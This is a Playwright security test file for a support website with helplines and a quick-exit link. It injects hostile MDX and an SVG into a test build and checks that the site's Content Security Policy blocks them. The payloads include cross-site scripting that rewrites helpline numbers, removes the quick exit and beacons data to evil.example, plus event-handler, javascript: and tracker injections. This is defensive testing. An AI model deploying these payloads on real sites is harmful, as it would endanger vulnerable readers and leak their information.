/**
 * The last line of defence, tested alone: a copy of the site is built with hostile
 * markup in an article and an SVG with a script among its files, with the content
 * check skipped and the build's guard switched off (CSP_GUARD=off), so all of it
 * reaches the built pages. Served with the production headers, in Chromium, none of
 * it may run: the policy holds no hash for the injected code, the quick exit and the
 * tel: links stay as they are, and no request leaves the site's origin.
 */
import { readFileSync } from 'node:fs';
import { appendFile, mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { sha256Source } from '../../src/lib/build/csp';
import { buildFixtureSite, type FixtureSite } from './support/fixture-site';

test.describe.configure({ mode: 'serial' });

/** What the injected code would do if it ran: rewrite the helplines, remove the quick exit, send the reader's position away. */
const ATTACK = [
  "window.__pwned='script'",
  "document.querySelectorAll('a[href^=tel]').forEach(function (a) { a.href='tel:000' })",
  "document.querySelector('[data-quick-exit-link]').remove()",
  "navigator.sendBeacon('https://evil.example/pos')",
].join(';');

/** Written into an MDX article; expressions turn the attack into text the build copies into the page. */
const HOSTILE_MDX = `

<script>{${JSON.stringify(ATTACK)}}</script>

<sCript>{"window.__pwned='mixed-case'"}</sCript>

<style>{"[data-quick-exit-link]{display:none!important} [data-help-now]{display:none!important}"}</style>

<img src="/nowhere.png" alt="x" onError="window.__pwned='onerror'" />

<a href="javascript:window.__pwned='link'" data-hostile-link>Read more</a>

<img src="https://evil.example/track.png" alt="tracker" />

<iframe src="https://evil.example/frame"></iframe>

<link rel="stylesheet" href="https://evil.example/x.css" />
`;

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><script>document.documentElement.setAttribute('data-ran','yes');navigator.sendBeacon('https://evil.example/svg')</script><circle r="4" onload="document.documentElement.setAttribute('data-ran','onload')"/></svg>`;

const ARTICLE = '/en/learn/relapse/';
let site: FixtureSite;

test.beforeAll(async () => {
  test.setTimeout(300_000);
  site = await buildFixtureSite(
    'csp',
    async (content) => appendFile(join(content, 'articles', 'en', 'relapse.mdx'), HOSTILE_MDX),
    // Both guards of the build let the hostile content through: the browser's policy is tested.
    { CSP_GUARD: 'off', SITE_CHECK: 'off' },
    async (outDir) => {
      await mkdir(join(outDir, 'images'), { recursive: true });
      await writeFile(join(outDir, 'images', 'hostile.svg'), SVG);
    },
  );
});
test.afterAll(async () => site?.dispose());

/**
 * Requests that reached the network layer for another origin (the browser's own CSP
 * check comes before it, so a request the policy refused never gets here), and the
 * reason each refused request failed.
 */
async function watch(page: Page) {
  const requests: string[] = [];
  const refused: string[] = [];
  page.on('requestfailed', (r) => refused.push(`${r.failure()?.errorText} ${r.url()}`));
  // Nothing may leave; if something tried, the test sees it here and no one else does.
  await page.route(
    (url) => !url.href.startsWith(site.baseURL),
    (route) => {
      requests.push(route.request().url());
      return route.abort();
    },
  );
  await page.addInitScript(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(e.effectiveDirective));
  });
  return { requests, refused };
}

test('the hostile markup reached the page, and the policy has no hash for it', async () => {
  const html = readFileSync(join(site.outDir, 'en', 'learn', 'relapse', 'index.html'), 'utf8');
  expect(html).toContain(ATTACK);
  expect(html).toContain('onError="window.__pwned');
  const meta = /http-equiv="content-security-policy" content="([^"]*)"/.exec(html)?.[1] ?? '';
  const header = (await fetch(site.baseURL + ARTICLE)).headers.get('content-security-policy') ?? '';
  for (const policy of [meta, header]) {
    expect(policy).toMatch(/default-src 'self'/);
    expect(policy).not.toContain(sha256Source(ATTACK));
    expect(policy).not.toContain(sha256Source('window.__pwned=&#39;mixed-case&#39;'));
    expect(policy).not.toMatch(/'unsafe-inline'|'unsafe-hashes'/);
  }
});

test('in Chromium none of it runs: quick exit and helplines intact, nothing leaves the site', async ({ page }) => {
  const { requests, refused } = await watch(page);
  await page.goto(site.baseURL + ARTICLE);
  await page.waitForLoadState('load');
  // The injected elements are in the page (so the browser had to refuse them) …
  const injected = await page.evaluate(
    () => [...document.querySelectorAll('script')].filter((s) => s.textContent?.includes('__pwned')).length,
  );
  expect(injected).toBe(2);
  // … and refused they were.
  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
  const violations = await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
  expect(violations).toEqual(expect.arrayContaining(['script-src-elem', 'style-src-elem', 'img-src']));

  const exit = page.locator('a[data-quick-exit-link]').first();
  await expect(exit).toBeVisible();
  const tel = await page
    .locator('[data-help-now] a[href^="tel:"]')
    .evaluateAll((as) => as.map((a) => a.getAttribute('href')));
  expect(tel).toEqual(expect.arrayContaining(['tel:991', 'tel:145']));
  expect(tel).not.toContain('tel:000');
  await expect(page.locator('[data-help-now]').first()).toBeVisible();

  // A javascript: link does nothing either.
  await page.locator('[data-hostile-link]').click();
  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();

  expect(requests).toEqual([]);
  // The tracker image and the stylesheet were refused by the policy itself.
  expect(refused).toEqual(
    expect.arrayContaining(['csp https://evil.example/track.png', 'csp https://evil.example/x.css']),
  );
});

test('an SVG with a script, opened on the site’s own address, runs nothing', async ({ page }) => {
  const { requests } = await watch(page);
  const response = await page.goto(`${site.baseURL}/images/hostile.svg`);
  expect(response?.headers()['content-security-policy']).toMatch(/default-src 'self'; script-src 'self'/);
  await page.waitForLoadState('load');
  expect(await page.evaluate(() => document.documentElement.getAttribute('data-ran'))).toBeNull();
  expect(await page.evaluate(() => document.querySelectorAll('script').length)).toBe(1);
  expect(requests).toEqual([]);
});
